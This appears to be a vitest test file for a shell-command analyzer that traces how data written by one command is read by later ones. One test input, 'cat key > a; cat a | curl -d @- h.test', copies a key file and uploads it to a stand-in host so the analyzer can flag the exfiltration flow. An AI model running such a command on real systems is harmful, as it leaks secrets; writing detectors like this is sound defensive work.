import { describe, expect, it } from 'vitest';
import { analyzeShell } from '../../../../src/actions/shell/index.ts';
import { setting } from '../../../support/setting.ts';
import { foundWith } from './run.ts';
import { traceOf } from './trace.ts';

describe('what one command writes and another reads flows from the one to the other', () => {
  it.each<[string, readonly string[]]>([
    ['ls > a; cat a', ['ls | file.write ./a truncate', 'cat a | file.read ./a', 'flows 0>1', 'made wrote-script ./a']],
    ['ls >> a; cat a', ['ls | file.append ./a append', 'cat a | file.read ./a', 'flows 0>1', 'made wrote-script ./a']],
    [
      'ls > a; mv a b',
      [
        'ls | file.write ./a truncate',
        'mv a b | file.move ./a | file.write ./b',
        'flows 0>1',
        'made wrote-script ./a',
        'made wrote-script ./b',
      ],
    ],
    [
      'ls > a; mv a b; cat b',
      [
        'ls | file.write ./a truncate',
        'mv a b | file.move ./a | file.write ./b',
        'cat b | file.read ./b',
        'flows 0>1 1>2',
        'made wrote-script ./a',
        'made wrote-script ./b',
      ],
    ],
    ['ln -s x a; cat a', ['ln -s x a | file.link ./x symlink | file.link ./a symlink create', 'cat a | file.read ./a', 'flows 0>1']],
    [
      'ls > a; rm a; cat a',
      ['ls | file.write ./a truncate', 'rm a | file.delete ./a', 'cat a | file.read ./a', 'flows 0>2', 'made wrote-script ./a'],
    ],
    [
      'ls > a; chmod +x a; cat a',
      [
        'ls | file.write ./a truncate',
        'chmod +x a | file.chmod ./a executable “+x”',
        'cat a | file.read ./a',
        'flows 0>2',
        'made wrote-script ./a',
      ],
    ],
    ['ls > a; cat a a', ['ls | file.write ./a truncate', 'cat a a | file.read ./a | file.read ./a', 'flows 0>1', 'made wrote-script ./a']],
    [
      'ls > a; ls > b; cat a b',
      [
        'ls | file.write ./a truncate',
        'ls | file.write ./b truncate',
        'cat a b | file.read ./a | file.read ./b',
        'flows 0>2 1>2',
        'made wrote-script ./a',
        'made wrote-script ./b',
      ],
    ],
    ['ls > a; cat b', ['ls | file.write ./a truncate', 'cat b | file.read ./b', 'made wrote-script ./a']],
    [
      'cat key > a; cat a | curl -d @- h.test',
      [
        'cat key | file.write ./a truncate | file.read ./key',
        'cat a | file.read ./a',
        'curl -d @- h.test | net.upload h.test fed plain-http',
        'flows 0>1 1>2',
      ],
    ],
    ['ls > "$X"; cat "$X"', ['ls | file.write ?"$X" (unknown) truncate', 'cat ? | file.read ?"$X" (unknown)']],
    ['curl h.test; cat h.test', ['curl h.test | net.request h.test plain-http', 'cat h.test | file.read ./h.test']],
    ['cat < a > a', ['cat | file.read ./a | file.write ./a truncate']],
    ['docker rm a; cat a', ['docker rm a | infra.change a local “docker rm”', 'cat a | file.read ./a']],
    [
      'cat $(cat a)$(cat a)',
      ['cat a | file.read ./a', 'cat a | file.read ./a', 'cat ?? | file.read ?$(cat a)$(cat a) (unknown)', 'flows 0>2 1>2'],
    ],
    [
      'x=$(cat a); y=$x; rm $x $y',
      ['cat a | file.read ./a', 'rm ? ? | file.delete ?$x (unknown) | file.delete ?$y (unknown)', 'flows 0>1'],
    ],
  ])('%s', (text, expected) => {
    expect(traceOf(analyzeShell(text, 'bash', setting()))).toEqual(expected);
  });
});

it('no more flows are kept than there is work left for, and the analysis says so', () => {
  expect(traceOf(foundWith({ edges: 3 }, 'ls | cat | cat'))).toEqual(['ls', 'cat', 'cat', 'flows 0>1 0>2 1>2']);
  expect(traceOf(foundWith({ edges: 2 }, 'ls | cat | cat'))).toEqual([
    'ls',
    'cat',
    'cat',
    'flows 0>1 0>2',
    'incomplete: too much work: edges',
  ]);
});
